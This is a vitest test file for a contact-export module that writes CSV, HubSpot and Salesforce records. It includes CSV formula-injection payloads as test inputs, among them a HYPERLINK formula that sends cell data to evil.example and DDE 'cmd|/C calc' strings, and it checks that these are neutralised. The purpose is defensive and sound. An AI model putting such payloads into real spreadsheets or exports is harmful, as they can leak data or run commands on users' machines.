import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  contactsToCsv,
  CONTACT_CSV_COLUMNS,
  forwardLifecycle,
  hubspotLifecycleOf,
  hubspotPropertyName,
  neutralise,
  renderExport,
  SALESFORCE_DEFAULT_COMPANY,
  salesforceFieldName,
  splitName,
  toCsv,
  toHubSpot,
  toSalesforceLead,
  type ExportContact,
} from './index.js';

const at = '2026-11-22T10:00:00.000Z';
const contact = (over: Partial<ExportContact> = {}): ExportContact => ({
  id: 'c1',
  name: 'Ana Lopez',
  phone: '+14155550123',
  email: 'ana@example.com',
  stage: { id: 'sales-qualified', name: 'Sales qualified' },
  tags: [
    { id: 'hair-coloring', name: 'Hair coloring' },
    { id: 'instagram', name: 'Instagram' },
  ],
  source: { channel: 'kiosk-voice', deviceId: 'lobby-1', site: 'Luna Salon, Main St', campaign: 'instagram' },
  owner: 'Maria',
  score: 42,
  outcome: null,
  fields: { name: 'Ana Lopez', phone: '+14155550123', service: 'hair coloring', budget: 120, returning_client: true, days: ['mon', 'fri'], note: null },
  createdAt: at,
  lastVisitAt: '2026-11-23T09:30:00.000Z',
  consent: { given: true, at, version: 'sha256:abc' },
  ...over,
});

/** A minimal RFC 4180 reader, to check that what we write reads back cell for cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;

describe('CSV', () => {
  it('writes RFC 4180: commas, quotes and line breaks quoted, quotes doubled, CRLF line ends', () => {
    expect(
      toCsv([
        { a: 'x', b: 'say "hi", ok' },
        { a: 'line\nbreak', b: '' },
      ]),
    ).toBe('a,b\r\nx,"say ""hi"", ok"\r\n"line\nbreak",\r\n');
    expect(toCsv([])).toBe('');
    // Rows with different custom fields share one header.
    expect(toCsv([{ a: 1 }, { a: 2, b: true }])).toBe('a,b\r\n1,\r\n2,true\r\n');
  });

  it('neutralises every cell a spreadsheet would run as a formula', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1+1']) expect(neutralise(s)).toBe(`'${s}`);
    for (const s of ['Ana', '', "'=already", ' =x', '1-2']) expect(neutralise(s)).toBe(s);
  });

  it('survives hostile and foreign names: every cell reads back, none starts a formula', () => {
    const names = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '+1-555',
      '\t=1',
      'Lopez, Ana "Anita"',
      'Ana\r\nLopez',
      '王小明',
      'Дмитрий Иванов',
      'محمد الأحمد',
      '😀 Emoji',
    ];
    const contacts = names.map((name, i) => contact({ id: `c${i}`, name, fields: { service: name, [`x${i}`]: name }, owner: name }));
    const rows = parseCsv(contactsToCsv(contacts));
    expect(rows).toHaveLength(names.length + 1);
    const header = rows[0]!;
    expect(header.slice(0, CONTACT_CSV_COLUMNS.length)).toEqual([...CONTACT_CSV_COLUMNS]);
    for (const [i, row] of rows.slice(1).entries()) {
      expect(row).toHaveLength(header.length);
      for (const cell of row) expect(cell).not.toMatch(FORMULA);
      const unquote = (s: string) => (s.startsWith("'") ? s.slice(1) : s);
      expect(unquote(row[header.indexOf('name')]!)).toBe(names[i]);
      expect(unquote(row[header.indexOf('field:service')]!)).toBe(names[i]);
      expect(unquote(row[header.indexOf('owner')]!)).toBe(names[i]);
    }
  });

  it('has a column for stage, tags, source, outcome and each custom field, typed values as text', () => {
    const rows = parseCsv(contactsToCsv([contact({ outcome: { result: 'lost', reason: { id: 'price', name: 'Price' } } })]));
    const [header, row] = [rows[0]!, rows[1]!];
    const get = (k: string) => row[header.indexOf(k)];
    expect(get('stage')).toBe('Sales qualified');
    expect(get('stage_id')).toBe('sales-qualified');
    expect(get('tags')).toBe('Hair coloring; Instagram');
    expect(get('tag_ids')).toBe('hair-coloring;instagram');
    expect(get('campaign')).toBe('instagram');
    expect(get('source_site')).toBe('Luna Salon, Main St');
    expect(get('outcome')).toBe('lost');
    expect(get('outcome_reason')).toBe('Price');
    expect(get('phone')).toBe("'+14155550123");
    expect(get('field:budget')).toBe('120');
    expect(get('field:returning_client')).toBe('true');
    expect(get('field:days')).toBe('mon; fri');
    expect(get('field:note')).toBe('');
    // Standard fields are not repeated as custom ones.
    expect(header).not.toContain('field:name');
    expect(get('consent')).toBe(`given ${at} (text sha256:abc)`);
  });

  it('reads back cell for cell and never starts a formula, whatever the text (property)', () => {
    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom('=1+1', '+1', '-', '@', '\t', '\r\n', '"', ',', '＝', "'"));
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 8 }), (cells) => {
        const rows = parseCsv(toCsv(cells.map(([a, b, c]) => ({ a, b, c }))));
        expect(rows).toHaveLength(cells.length + 1);
        rows.slice(1).forEach((row, i) => {
          expect(row).toEqual(cells[i]!.map(neutralise));
          for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
        });
      }),
      { numRuns: 300 },
    );
  });

  it('writes the header even with no contacts', () => {
    expect(contactsToCsv([])).toBe(CONTACT_CSV_COLUMNS.join(',') + '\r\n');
  });
});

describe('HubSpot', () => {
  it('maps our stages to lifecycle stages and lead statuses', () => {
    expect(hubspotLifecycleOf({ id: 'new-inquiry', name: 'New inquiry' })).toBe('lead');
    expect(hubspotLifecycleOf({ id: 'marketing-qualified', name: 'x' })).toBe('marketingqualifiedlead');
    expect(hubspotLifecycleOf({ id: 'sales-qualified', name: 'x' })).toBe('salesqualifiedlead');
    expect(hubspotLifecycleOf({ id: 'opportunity', name: 'x' })).toBe('opportunity');
    expect(hubspotLifecycleOf({ id: 'customer', name: 'x' })).toBe('customer');
    expect(hubspotLifecycleOf({ id: 'lost', name: 'Lost' })).toBe('lead');
    // A stage staff added: its name may still mean something; else 'lead'.
    expect(hubspotLifecycleOf({ id: 'stage-7', name: 'SQL' })).toBe('salesqualifiedlead');
    expect(hubspotLifecycleOf({ id: 'stage-8', name: 'Consultation booked' })).toBe('lead');
    expect(
      toHubSpot(contact({ stage: { id: 'lost', name: 'Lost' }, outcome: { result: 'lost', reason: { id: 'price', name: 'Price' } } })).hs_lead_status,
    ).toBe('UNQUALIFIED');
    expect(toHubSpot(contact({ outcome: { result: 'lost', reason: { id: 'timing', name: 'Timing' } } })).hs_lead_status).toBe('BAD_TIMING');
  });

  it('never moves the lifecycle stage backwards', () => {
    expect(forwardLifecycle('customer', 'lead')).toBeNull();
    expect(forwardLifecycle('opportunity', 'opportunity')).toBeNull();
    expect(forwardLifecycle('lead', 'opportunity')).toBe('opportunity');
    expect(forwardLifecycle(null, 'subscriber')).toBe('subscriber');
    expect(toHubSpot(contact(), { portalStage: 'opportunity' }).lifecyclestage).toBe('');
    expect(toHubSpot(contact({ stage: { id: 'lost', name: 'Lost' } }), { portalStage: 'customer' }).lifecyclestage).toBe('');
    expect(toHubSpot(contact({ stage: { id: 'customer', name: 'Customer' } }), { portalStage: 'opportunity' }).lifecyclestage).toBe('customer');
    const out = renderExport([contact({ id: 'a' }), contact({ id: 'b' })], { format: 'hubspot', as: 'json', portalStages: new Map([['a', 'customer']]) });
    expect((JSON.parse(out) as { lifecyclestage: string }[]).map((r) => r.lifecyclestage)).toEqual(['', 'salesqualifiedlead']);
  });

  it('carries custom fields as properties, typed values as HubSpot reads them', () => {
    const h = toHubSpot(contact());
    expect(h).toMatchObject({
      email: 'ana@example.com',
      firstname: 'Ana',
      lastname: 'Lopez',
      phone: '+14155550123',
      lifecyclestage: 'salesqualifiedlead',
      hs_lead_status: 'IN_PROGRESS',
      frontdesk_tags: 'hair-coloring;instagram',
      frontdesk_campaign: 'instagram',
      frontdesk_owner: 'Maria',
      frontdesk_score: '42',
      frontdesk_field_service: 'hair coloring',
      frontdesk_field_budget: '120',
      frontdesk_field_returning_client: 'true',
      frontdesk_field_days: 'mon;fri',
      frontdesk_field_note: '',
    });
    expect(h).not.toHaveProperty('frontdesk_field_name');
    expect(hubspotPropertyName('Preferred Day!')).toBe('frontdesk_field_preferred_day');
    expect(hubspotPropertyName('имя')).toMatch(/^frontdesk_field_[0-9a-f_]+$/);
  });
});

describe('Salesforce', () => {
  it('fills the required LastName and Company, Status from our stages', () => {
    const sf = toSalesforceLead(contact());
    expect(sf).toMatchObject({
      FirstName: 'Ana',
      LastName: 'Lopez',
      Company: SALESFORCE_DEFAULT_COMPANY,
      Phone: '+14155550123',
      Email: 'ana@example.com',
      LeadSource: 'Walk-In',
      Status: 'Working - Contacted',
      Frontdesk_Stage__c: 'Sales qualified',
      Frontdesk_Tags__c: 'hair-coloring;instagram',
      Frontdesk_Score__c: 42,
    });
    expect(sf.Description).toContain('Tags: Hair coloring, Instagram');
    const status = (id: string, outcome: ExportContact['outcome'] = null) => toSalesforceLead(contact({ stage: { id, name: id }, outcome })).Status;
    expect(status('new-inquiry')).toBe('Open - Not Contacted');
    expect(status('marketing-qualified')).toBe('Open - Not Contacted');
    expect(status('opportunity')).toBe('Working - Contacted');
    expect(status('customer')).toBe('Closed - Converted');
    expect(status('lost')).toBe('Closed - Not Converted');
    expect(status('opportunity', { result: 'won', reason: null })).toBe('Closed - Converted');
    expect(toSalesforceLead(contact({ name: '王小明', fields: { company: ' Acme ' } }))).toMatchObject({ FirstName: '', LastName: '王小明', Company: 'Acme' });
    expect(toSalesforceLead(contact(), { company: 'Luna Salon walk-in' }).Company).toBe('Luna Salon walk-in');
  });

  it('writes custom fields as <Field>__c, typed', () => {
    const sf = toSalesforceLead(contact({ fields: { company: 'Acme', budget: 120, returning_client: true, days: ['mon', 'fri'], 'preferred-day': 'Mon' } }));
    expect(sf).toMatchObject({ Budget__c: 120, Returning_Client__c: true, Days__c: 'mon;fri', Preferred_Day__c: 'Mon' });
    expect(sf).not.toHaveProperty('Company__c');
    expect(salesforceFieldName('9lives')).toBe('F_9lives__c');
    expect(salesforceFieldName('a__b_')).toBe('A_B__c');
    expect(salesforceFieldName('x'.repeat(60))).toHaveLength(43);
    expect(salesforceFieldName('имя')).toMatch(/^Field_[0-9a-f_]+__c$/);
  });

  it('as CSV for the Data Import Wizard, formulas neutralised', () => {
    const csv = renderExport([contact({ name: '=HYPERLINK("http://evil.example","x") Smith' })], { format: 'salesforce' });
    const rows = parseCsv(csv);
    expect(rows[1]![rows[0]!.indexOf('FirstName')]).toBe(`'=HYPERLINK("http://evil.example","x")`);
  });
});

describe('names', () => {
  it('splits names for first/last fields', () => {
    expect(splitName('Ana Lopez')).toEqual({ first: 'Ana', last: 'Lopez' });
    expect(splitName('  Mary Ann  Smith ')).toEqual({ first: 'Mary Ann', last: 'Smith' });
    expect(splitName('Ludwig van Beethoven')).toEqual({ first: 'Ludwig', last: 'van Beethoven' });
    expect(splitName('Cher')).toEqual({ first: '', last: 'Cher' });
    expect(splitName('Дмитрий Иванов')).toEqual({ first: 'Дмитрий', last: 'Иванов' });
  });
});
